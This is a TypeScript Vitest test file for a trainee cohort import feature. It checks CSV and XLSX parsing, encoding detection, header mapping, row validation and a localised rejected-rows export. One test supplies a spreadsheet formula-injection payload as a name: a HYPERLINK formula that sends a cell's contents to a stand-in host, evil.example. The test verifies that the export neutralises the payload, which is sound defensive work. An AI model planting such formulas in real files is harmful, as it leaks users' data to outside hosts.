import Papa from "papaparse";
import { describe, expect, it } from "vitest";
import { makeCreditCode, makeResidentId } from "@/lib/eligibility";
import { cohortTemplateHeader, COHORT_COLUMNS, mapCohortHeaders, recordFromRow, type CohortRecord } from "./cohort-columns";
import ExcelJS from "exceljs";
import { cohortTemplateCsv, parseCohortFile, parseCohortUpload } from "./cohort-file";
import { normaliseCsvDate, parseCohortRow } from "./cohort-row";
import { decodeCsvBytes } from "./decode-csv";
import { exportLabels } from "@/lib/exports/export-labels";
import { writeExport } from "@/lib/exports/write-export";
import type { CohortImportReport } from "./import-cohort";
import { REJECTED_ROW_COLUMNS, rejectedRowPages } from "./rejected-rows-export";

const ID = makeResidentId("36010220010315123");
const OUTSIDE = makeCreditCode("91440300MA5FHA003");

function record(overrides: Partial<CohortRecord> = {}): CohortRecord {
  return {
    name: "李明", idNumber: ID, college: "南昌大学", collegeLevel: "本科", studentStatus: "毕业生", phone: "13900000000",
    bankName: "", bankAccount: "", courseName: "Java", trainingStart: "2024/3/1", trainingEnd: "2024-07-15", examPassed: "是",
    certificateNo: "NC-1", certificateIssuedOn: "2024-07-20", employerCreditCode: OUTSIDE, employerName: "深圳海岸", employerCity: "深圳",
    contractSignedOn: "2024-07-25", contractStart: "2024-08-01", contractEnd: "2026-07-31",
    ...overrides,
  };
}

describe("encoding detection", () => {
  it("reads UTF-8 with and without BOM, and GB18030", () => {
    const text = "姓名,身份证号\n李明,1\n";
    const utf8 = new TextEncoder().encode(text);
    expect(decodeCsvBytes(utf8)).toEqual({ text, encoding: "utf-8" });
    const withBom = new Uint8Array([0xef, 0xbb, 0xbf, ...utf8]);
    expect(decodeCsvBytes(withBom)).toEqual({ text, encoding: "utf-8" });
    // 李明 in GB18030 is C0 EE C3 F7: not valid UTF-8.
    const gb = new Uint8Array([0xc0, 0xee, 0xc3, 0xf7]);
    expect(decodeCsvBytes(gb)).toEqual({ text: "李明", encoding: "gb18030" });
  });
});

describe("header mapping", () => {
  it("accepts the Chinese and the English template headers in any order", () => {
    const zh = cohortTemplateHeader("zh");
    const en = cohortTemplateHeader("en").reverse();
    expect(mapCohortHeaders(zh).ok).toBe(true);
    const mapped = mapCohortHeaders(en.map((h) => ` ${h.toUpperCase()} `));
    expect(mapped.ok).toBe(true);
    if (mapped.ok) expect(mapped.indexOf.name).toBe(en.indexOf("Name"));
  });

  it("names missing, unknown and repeated columns", () => {
    const headers = cohortTemplateHeader("zh").filter((h) => h !== "身份证号" && h !== "课程名称");
    const result = mapCohortHeaders([...headers, "备注", "姓名"]);
    expect(result).toEqual({ ok: false, missing: ["身份证号 / ID number", "课程名称 / Course"], unknown: ["备注"], duplicated: ["姓名"] });
  });

  it("lets optional bank columns be absent", () => {
    const headers = cohortTemplateHeader("en").filter((h) => h !== "Bank" && h !== "Bank account");
    const mapped = mapCohortHeaders(headers);
    expect(mapped.ok).toBe(true);
    if (mapped.ok) expect(recordFromRow(headers.map(() => "x"), mapped.indexOf).bankName).toBe("");
  });
});

describe("row to inputs", () => {
  it("turns words, spreadsheet dates and codes into the forms' inputs", () => {
    const result = parseCohortRow(record());
    expect(result.ok).toBe(true);
    if (!result.ok) return;
    expect(result.inputs.trainee).toMatchObject({ idNumber: ID, collegeLevel: "UNDERGRADUATE", studentStatus: "GRADUATE" });
    expect(result.inputs.training).toMatchObject({ startDate: "2024-03-01", examPassed: true, certificateNo: "NC-1" });
    expect(result.inputs.contract.employerCreditCode).toBe(OUTSIDE);
  });

  it("reports each bad cell with its column", () => {
    const badId = ID.slice(0, 17) + (ID[17] === "1" ? "2" : "1");
    const result = parseCohortRow(record({ idNumber: badId, trainingEnd: "2024-02-01", examPassed: "maybe", contractEnd: "2024-01-01", phone: "12" }));
    expect(result.ok).toBe(false);
    if (result.ok) return;
    expect(result.errors).toEqual(
      expect.arrayContaining([
        { column: "idNumber", message: "residentIdCheck" },
        { column: "phone", message: "phone" },
        { column: "trainingEnd", message: "endBeforeStart" },
        { column: "examPassed", message: "yesNo" },
        { column: "contractEnd", message: "endBeforeStart" },
      ]),
    );
  });

  // Whether an employer is outside (and so needs its name and city) depends on the institution's
  // city and on who is registered: tests/db/institution-import.test.ts, on the analysis.

  it("refuses a NUL character in any column, naming each column that has one", () => {
    for (const column of COHORT_COLUMNS) {
      const result = parseCohortRow(record({ [column.key]: `a\u0000b` }));
      expect(result, column.key).toEqual({ ok: false, errors: [{ column: column.key, message: "nulCharacter" }] });
    }
    const two = parseCohortRow(record({ name: "\u0000", employerCity: "深\u0000圳" }));
    expect(two).toEqual({ ok: false, errors: [{ column: "name", message: "nulCharacter" }, { column: "employerCity", message: "nulCharacter" }] });
  });

  it("caps the outside employer's name and city at the contract form's 200 characters", () => {
    const long = parseCohortRow(record({ employerName: "深".repeat(201), employerCity: "圳".repeat(201) }));
    expect(long.ok ? [] : long.errors).toEqual([{ column: "employerName", message: "tooLong" }, { column: "employerCity", message: "tooLong" }]);
    expect(parseCohortRow(record({ employerName: "深".repeat(200), employerCity: "圳".repeat(200) })).ok).toBe(true);
  });

  it("normalises spreadsheet date forms", () => {
    expect(normaliseCsvDate("2024/3/1")).toBe("2024-03-01");
    expect(normaliseCsvDate("2024年3月1日")).toBe("2024-03-01");
    expect(normaliseCsvDate("01/03/2024")).toBe("01/03/2024");
  });
});

describe("cohort file", () => {
  it("parses the downloadable template in both languages", () => {
    for (const language of ["zh", "en"] as const) {
      const parsed = parseCohortFile(new TextEncoder().encode(cohortTemplateCsv(language)));
      expect(parsed.ok).toBe(true);
      // The example row itself is valid: a copy of the template imports.
      if (parsed.ok) expect(parsed.rows.map((r) => r.errors)).toEqual([[]]);
    }
  });

  it("reads an .xlsx with the same columns and gives the same row errors as the CSV", async () => {
    const csv = cohortTemplateCsv("zh").replace(/^\uFEFF/, "");
    const [header, example] = Papa.parse<string[]>(csv, { skipEmptyLines: "greedy" }).data;
    const broken = [...example!];
    broken[1] = ID.slice(0, 17) + (ID.endsWith("1") ? "2" : "1");
    const workbook = new ExcelJS.Workbook();
    const sheet = workbook.addWorksheet("学员");
    sheet.addRow(header);
    // Dates typed as date cells, the phone number as a number: as Excel stores them.
    sheet.addRow(example!.map((cell) => (/^\d{4}-\d{2}-\d{2}$/.test(cell) ? new Date(`${cell}T00:00:00Z`) : /^1\d{10}$/.test(cell) ? Number(cell) : cell)));
    sheet.addRow(broken);
    const bytes = new Uint8Array(await workbook.xlsx.writeBuffer());
    const fromXlsx = await parseCohortUpload(bytes);
    const fromCsv = parseCohortFile(new TextEncoder().encode(Papa.unparse([header!, example!, broken])));
    expect(fromXlsx.ok && fromXlsx.encoding).toBe("xlsx");
    expect(fromXlsx.ok && fromXlsx.rows.map((r) => r.errors)).toEqual(fromCsv.ok && fromCsv.rows.map((r) => r.errors));
    expect(fromXlsx.ok && fromXlsx.rows[1]!.errors.map((e) => e.column)).toEqual(["idNumber"]);
    // A renamed executable is refused as a whole.
    expect(await parseCohortUpload(new Uint8Array([0x50, 0x4b, 0x03, 0x04, 0, 0, 0, 0]))).toEqual({ ok: false, error: "xlsxNotZip" });
  });

  it("refuses wrong headers naming the columns", () => {
    const parsed = parseCohortFile(new TextEncoder().encode("name,foo\nx,y\n"));
    expect(parsed).toMatchObject({ ok: false, error: "csvHeaders", unknown: ["foo"] });
    if (!parsed.ok) expect(parsed.missing).toHaveLength(COHORT_COLUMNS.filter((c) => c.required).length - 1);
  });

  it("writes a report of rejected rows in the reader's language", async () => {
    const report: Pick<CohortImportReport, "rejected"> = { rejected: [{ rowNo: 3, name: "王", errors: [{ column: "idNumber", message: "residentIdCheck" }] }] };
    expect(await rejectedRowsText(report, "en")).toBe("Row,Name,Column,Reason\r\n3,王,ID number,The check character of this ID number is wrong.\r\n");
    expect(await rejectedRowsText(report, "zh-CN")).toBe("行号,姓名,列,原因\r\n3,王,身份证号,身份证号校验位不正确。\r\n");
  });

  it("neutralises a hostile name in the rejected-rows report, keeping the row number a number; an unknown reason is 'not valid'", async () => {
    const name = '=HYPERLINK("http://evil.example/?"&A1,"详情")';
    const csv = await rejectedRowsText({ rejected: [{ rowNo: 7, name, errors: [{ column: "idNumber", message: "noSuchMessage" }] }] }, "zh-CN");
    const rows = Papa.parse<string[]>(csv, { skipEmptyLines: true }).data;
    expect(rows[1]).toEqual(["7", `'${name}`, "身份证号", "输入无效。"]);
  });

  it("pages a long report (one row per error) without losing a row", async () => {
    const rejected: CohortImportReport["rejected"] = Array.from({ length: 1500 }, (_, i) => ({ rowNo: i + 2, name: `n${i}`, errors: [{ column: "name", message: "required" }, { column: "phone", message: "required" }] }));
    const pages: number[] = [];
    for await (const page of rejectedRowPages({ rejected })) pages.push(page.length);
    expect(pages).toEqual([1000, 1000, 1000]);
  });
});

async function rejectedRowsText(report: Pick<CohortImportReport, "rejected">, locale: "zh-CN" | "en"): Promise<string> {
  const stream = writeExport({ format: "csv", labels: exportLabels(locale), columns: REJECTED_ROW_COLUMNS, pages: rejectedRowPages(report), sheetName: "exports.sheet.rejectedRows" });
  // Response.text() drops the byte-order mark.
  return new Response(stream).text();
}
